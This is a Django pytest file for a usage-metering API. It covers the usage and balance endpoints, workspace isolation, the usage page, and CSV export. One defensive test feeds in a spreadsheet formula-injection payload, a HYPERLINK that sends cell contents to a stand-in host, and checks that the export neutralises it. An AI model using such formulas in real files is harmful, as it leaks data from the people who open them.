"""GET /api/v1/usage and GET /api/v1/balance (customer key), and the Usage page / CSV."""

from datetime import timedelta

import pytest
from django.utils import timezone

from apikeys.services import key_create
from tests.usage.metering_helpers import *  # noqa: F401,F403
from tests.usage.metering_helpers import event, give_credits
from usage.rollup import rollup_run
from usage.services import usage_record_batch

pytestmark = pytest.mark.django_db


@pytest.fixture
def usage_two_days(api_key, workspace, owner):
    key, secret = api_key
    second, _ = key_create(workspace=workspace, user=owner, name="Batch jobs")
    today = timezone.now()
    usage_record_batch([event(key, "d1", quantity={"pages": 2})], now=today - timedelta(days=1))
    usage_record_batch([
        event(key, "d2", quantity={"pages": 1}),
        event(second, "d3", product="image.cat", tier="hi", quantity={"images": 3}),
    ], now=today)
    rollup_run()
    return key, second, secret


def _get(client, path, secret):
    return client.get(path, HTTP_AUTHORIZATION=f"Bearer {secret}")


def test_usage_by_day(client, usage_two_days):
    key, second, secret = usage_two_days
    today = timezone.now().date()
    body = _get(client, f"/api/v1/usage?start={today - timedelta(days=1)}&end={today}&group_by=day", secret).json()
    assert [(r["day"], r["requests"], r["credits"]) for r in body["rows"]] == [
        ((today - timedelta(days=1)).isoformat(), 1, "4.000000"),
        (today.isoformat(), 2, "14.000000"),
    ]
    assert body["total_credits"] == "18.000000"
    assert body["rows"][0]["key_id"] is None and body["rows"][0]["product"] is None


def test_usage_by_key_and_by_product(client, usage_two_days):
    key, second, secret = usage_two_days
    by_key = _get(client, "/api/v1/usage?group_by=key", secret).json()["rows"]
    assert {r["key_id"]: r["credits"] for r in by_key} == {key.public_id: "6.000000", second.public_id: "12.000000"}
    by_product = _get(client, "/api/v1/usage?group_by=product", secret).json()["rows"]
    assert {r["product"]: (r["quantity"], r["credits"]) for r in by_product} == {
        "document.invoice": ({"pages": "3"}, "6.000000"),
        "image.cat": ({"images": "3"}, "12.000000"),
    }


def test_usage_of_another_workspace_is_never_shown(client, usage_two_days, outsider):
    other_ws = outsider.memberships.get().workspace
    give_credits(other_ws, 10)
    _, other_secret = key_create(workspace=other_ws, user=outsider, name="theirs")
    body = _get(client, "/api/v1/usage?group_by=product", other_secret).json()
    assert body["rows"] == [] and body["total_credits"] == "0.000000"


@pytest.mark.parametrize("query, param", [
    ("group_by=month", "group_by"), ("start=2026-13-01", "start"), ("start=2026-02-01&end=2026-01-01", "start"),
    ("start=2020-01-01&end=2026-01-01", "start"), ("colour=blue", "colour"),
])
def test_bad_queries_are_400_naming_the_field(client, api_key, query, param):
    _, secret = api_key
    response = _get(client, f"/api/v1/usage?{query}", secret)
    assert response.status_code == 400
    assert response.json()["error"]["param"] == param


def test_a_service_token_is_refused_on_customer_routes(client, service_secret):
    for path in ("/api/v1/usage", "/api/v1/balance"):
        response = _get(client, path, service_secret)
        assert response.status_code == 401
        assert response.json()["error"]["code"] == "invalid_api_key"


def test_balance_has_the_contract_shape(client, api_key, workspace):
    _, secret = api_key
    body = _get(client, "/api/v1/balance", secret).json()
    assert set(body) >= {"workspace", "plan", "billing_mode", "balance", "included_remaining", "overage",
                         "overage_limit", "cycle_start", "cycle_end", "auto_recharge"}
    assert body["workspace"] == workspace.slug
    assert body["balance"].count(".") == 1 and len(body["balance"].split(".")[1]) == 6


def test_balance_follows_usage(client, gateway, api_key):
    key, secret = api_key
    before = _get(client, "/api/v1/balance", secret).json()["balance"]
    charged = gateway(event(key, "bal")).json()
    after = _get(client, "/api/v1/balance", secret).json()["balance"]
    assert after == charged["balance"] != before


def test_the_usage_page_shows_tables_chart_and_lookup(client_for, owner, usage_two_days):
    client = client_for(owner)
    page = client.get("/usage/?range=7&split=key").content.decode()
    assert "Batch jobs" in page and "image.cat" in page
    assert 'id="usage-chart-data"' in page and "plotly.min.js" in page
    assert "<script>" not in page  # the CSP allows no inline script
    found = client.get("/usage/?request=d3").content.decode()
    assert "12.000000 credits" in found and "images" in found
    missing = client.get("/usage/?request=nope").content.decode()
    assert "No request with id" in missing


def test_the_usage_page_of_another_workspace_does_not_find_our_requests(client_for, outsider, usage_two_days):
    page = client_for(outsider).get("/usage/?request=d3").content.decode()
    assert "No request with id" in page


def test_the_csv_export(client_for, owner, usage_two_days):
    response = client_for(owner).get("/usage/export.csv?range=7&group_by=product")
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode().strip().splitlines()
    assert lines[0] == "product,requests,images,pages,credits,usd"
    assert "image.cat,1,3,0,12.000000,0.120000" in lines
    assert lines[-1].startswith("total") and "18.000000" in lines[-1]


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(client_for, owner, api_key):
    import csv
    import io

    key, _secret = api_key
    product = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
    usage_record_batch([event(key, "f1", product=product, quantity={"gpu_seconds": 60, "machine": "a100-80gb"})],
                       now=timezone.now())
    rollup_run()
    response = client_for(owner).get("/usage/export.csv?range=7&group_by=product")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'" + product  # shown as text, never run
    assert rows[1][-2].replace(".", "").isdigit()  # the numbers stay numbers


def test_a_bad_custom_range_falls_back_with_a_message(client_for, owner, usage_two_days):
    response = client_for(owner).get("/usage/?range=custom&start=garbage")
    assert response.status_code == 200
    assert "Showing the last 30 days instead" in response.content.decode()
